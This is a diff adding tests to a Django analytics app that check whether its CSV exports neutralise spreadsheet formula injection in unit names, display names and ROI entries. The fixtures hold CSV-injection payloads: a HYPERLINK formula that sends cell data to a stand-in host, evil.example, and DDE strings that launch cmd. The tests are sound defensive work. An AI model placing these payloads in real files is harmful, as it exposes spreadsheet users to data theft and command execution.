@@ -323,3 +323,78 @@ def test_duplicates_page_query_count_does_not_grow_with_clusters(programme: Prog
     with CaptureQueriesContext(connection) as many:
         client.get("/insights/duplicates/")
     assert len(many) == len(one)
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+HOSTILE_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _csv_rows(client, url: str) -> list[list[str]]:  # noqa: ANN001
+    return list(csv.reader(io.StringIO(client.get(url).content.decode())))
+
+
+def test_dashboard_csv_neutralises_a_hostile_unit_name(programme: Programme) -> None:
+    programme.p1.org_unit.__class__.objects.filter(name="Team B").update(name=HOSTILE_UNIT)
+    rows = _csv_rows(signed_in(programme.enabler), "/insights/dashboard.csv?period=last-30-days")
+    units = [r[1] for r in rows if r[0] == "learners by org_unit"]
+    assert "'" + HOSTILE_UNIT in units
+    assert [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))] == []
+
+
+def test_expertise_csv_neutralises_a_hostile_display_name(programme: Programme) -> None:
+    programme.s2.display_name = HOSTILE_NAME
+    programme.s2.save()
+    rows = _csv_rows(signed_in(programme.enabler), "/insights/expertise.csv?period=last-30-days")
+    assert [(r[0], r[4]) for r in rows[1:]] == [("'" + HOSTILE_NAME, "6.0"), ("Sam Speaker", "4.0")]
+
+
+def test_network_csv_neutralises_a_hostile_unit_name(programme: Programme) -> None:
+    programme.p1.org_unit.__class__.objects.filter(name="Team B").update(name=HOSTILE_UNIT)
+    rows = _csv_rows(
+        signed_in(programme.enabler), "/insights/network/edges.csv?period=last-30-days"
+    )
+    assert rows == [
+        ["unit_a", "unit_b", "weight"],
+        ["Team A", "'" + HOSTILE_UNIT, "2"],
+        ["'" + HOSTILE_UNIT, "Team C", "1"],
+    ]
+
+
+def test_roi_csv_neutralises_hostile_titles(programme: Programme) -> None:
+    client = signed_in(programme.enabler)
+    today = timezone.now().date()
+    client.post(
+        "/insights/roi/",
+        {
+            "title": "Guild ROI",
+            "scope": "programme",
+            "period_start": (today - timedelta(days=30)).isoformat(),
+            "period_end": today.isoformat(),
+            "isolation_method": "participant_estimate",
+            "isolation_note": "Estimates.",
+            "default_hourly_cost": "50",
+            "attribution_share": "1",
+            "hours_saved_cap": "40",
+            "preparation_ratio": "3",
+            "organiser_hours": "0",
+        },
+    )
+    study = RoiStudy.objects.get()
+    client.post(
+        f"/insights/roi/{study.pk}/add/training/",
+        {"course": "-2+3+cmd|' /C calc'!A0", "price": "1000", "people": "2"},
+    )
+    client.post(f"/insights/roi/{study.pk}/add/intangible/", {"text": "\t=1+1"})
+    rows = _csv_rows(client, f"/insights/roi/{study.pk}.csv")
+    # The form strips the tab; the formula left behind is still neutralised.
+    assert [r for r in rows if r[0] in ("benefit", "intangible")] == [
+        # Inside a cell, after other text, a formula cannot start: left as written.
+        [
+            "benefit",
+            "training avoided: -2+3+cmd|' /C calc'!A0",
+            "2 people × 1000.00",
+            "2000.00",
+            "entered by hand",
+        ],
+        ["intangible", "'=1+1", "", "", "not converted to money"],
+    ]
